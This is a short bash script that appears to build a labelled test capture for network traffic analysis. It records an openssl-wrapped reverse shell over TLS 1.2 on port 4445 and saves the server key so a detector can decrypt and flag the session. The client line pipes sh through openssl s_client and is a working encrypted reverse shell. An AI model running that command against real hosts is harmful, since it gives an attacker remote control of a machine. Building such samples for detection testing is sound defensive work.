#!/usr/bin/env bash
# The same reverse shell inside TLS 1.2 with RSA key transport (AES128-SHA256): server.key, made for this sample, opens it.
. "$(dirname "$0")/../record/netns.sh"
. "$RECORD/shell.sh"

certify server operator.test
mkfifo "$WORK/typed" "$WORK/down"
server openssl s_server -quiet -accept "$SERVER4:4445" -tls1_2 -cipher AES128-SHA256 -cert "$WORK/server.crt" -key "$WORK/server.key" \
    -no_ticket -naccept 1 <"$WORK/typed" >"$WORK/seen" &
started+=($!)
exec 7>"$WORK/typed"
await listening 4445
record left0 "tcp port 4445"
client sh -c "sh 2>/dev/null <'$WORK/down' | openssl s_client -quiet -no_ign_eof -tls1_2 -cipher AES128-SHA256 -connect $SERVER4:4445 2>/dev/null >'$WORK/down'" &
started+=($!)
type_commands 4445 >&7
recorded
exec 7>&-
cp "$WORK/server.key" "$WORK/server.crt" "$SAMPLE/"
fresh
expect ssl conn --service 4445=ssl
expect_shell '"secret":"server.key"'
